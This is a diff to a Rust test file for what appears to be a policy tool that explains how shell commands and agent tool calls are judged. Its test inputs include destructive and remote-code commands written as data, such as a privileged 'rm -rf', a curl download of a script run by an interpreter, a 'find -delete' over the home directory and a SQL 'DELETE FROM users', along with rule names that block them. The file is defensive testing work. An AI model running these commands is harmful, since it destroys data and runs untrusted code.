@@ -25,8 +25,8 @@ fn a_command_s_trace_names_commands_effects_rules_verdict_and_override() {
         "Commands (after unwrapping):",
         "rm -rf /opt/build   [via sudo]   [privileged]",
         "[stdin from command 2]",
-        "changes or removes /opt/build (rm)",
-        "talks to the network (curl -s https://x.example/i.sh)",
+        "removes /opt/build (rm, whole trees)",
+        "fetches https://x.example/i.sh (host x.example)",
         "ask built-in destructive-fs/rm-outside-project",
         "deny built-in remote-code/download-to-interpreter",
         "Policy layers:\n  built-in: <built-in>",
@@ -42,6 +42,45 @@ fn a_command_s_trace_names_commands_effects_rules_verdict_and_override() {
         out.contains("Verdict: pass") && !out.contains("To override"),
         "{out}"
     );
+}
+
+/// "What it does" is the effect list every rule judges, so an MCP tool's model, a query and a
+/// delete by `find` read as what they do, not as a tool name.
+#[test]
+fn what_it_does_is_the_effects_of_any_tool() {
+    let sb = Sandbox::new();
+    let (code, out) = explain(
+        &sb,
+        &[
+            "--tool",
+            "mcp__filesystem__move_file",
+            "--input",
+            r#"{"source":"notes.md","destination":"/etc/notes.md"}"#,
+        ],
+    );
+    assert_eq!(code, 3, "{out}");
+    for want in [
+        "calls tool 'move_file' of MCP server 'filesystem'",
+        "moves ",
+        " to /etc/notes.md",
+    ] {
+        assert!(out.contains(want), "missing {want:?} in:\n{out}");
+    }
+    let (_, out) = explain(
+        &sb,
+        &["find ~ -name '*.bak' -delete; psql -c 'DELETE FROM users' shop; git push origin main"],
+    );
+    let home = sb.home();
+    let home = home.display();
+    for want in [
+        format!("removes what `find` selects under {home} (find -delete, whole trees)"),
+        "runs a database statement (psql): DELETE FROM users".to_string(),
+        "sends to origin".to_string(),
+    ] {
+        assert!(out.contains(&want), "missing {want:?} in:\n{out}");
+    }
+    // A shell line's plain program runs are its commands, listed once above.
+    assert!(!out.contains("runs psql"), "{out}");
 }
 
 #[test]
@@ -60,7 +99,7 @@ fn tool_input_and_json() {
     assert_eq!(code, 3, "{out}");
     let v: Value = serde_json::from_str(&out).unwrap();
     assert_eq!(v["verdict"]["decision"], "ask");
-    assert_eq!(v["effects"][0], "writes /etc/hosts");
+    assert_eq!(v["effects"][0], "writes /etc/hosts (Write)");
     assert!(
         v["rules"][0]
             .as_str()
